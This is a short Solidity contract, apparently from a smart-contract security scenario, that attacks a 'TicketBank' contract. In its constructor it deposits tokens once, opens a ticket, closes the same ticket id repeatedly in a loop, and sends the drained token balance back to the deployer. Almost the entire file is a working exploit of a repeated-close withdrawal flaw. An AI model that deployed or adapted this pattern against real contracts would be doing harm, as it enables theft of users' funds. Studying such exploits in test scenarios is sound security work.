// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {TicketBank} from "../scenarios/TicketBank.sol";

/// @title Opens a ticket and closes it many times, all while it is made. Who makes it must have allowed it `amount` before.
contract TicketForger {
    constructor(TicketBank bank, uint256 amount, uint256 times) {
        bank.token().transferFrom(msg.sender, address(this), amount);
        bank.token().approve(address(bank), amount);
        uint256 id = bank.open(amount);
        for (uint256 i = 0; i < times; i++) bank.close(id);
        bank.token().transfer(msg.sender, bank.token().balanceOf(address(this)));
    }
}
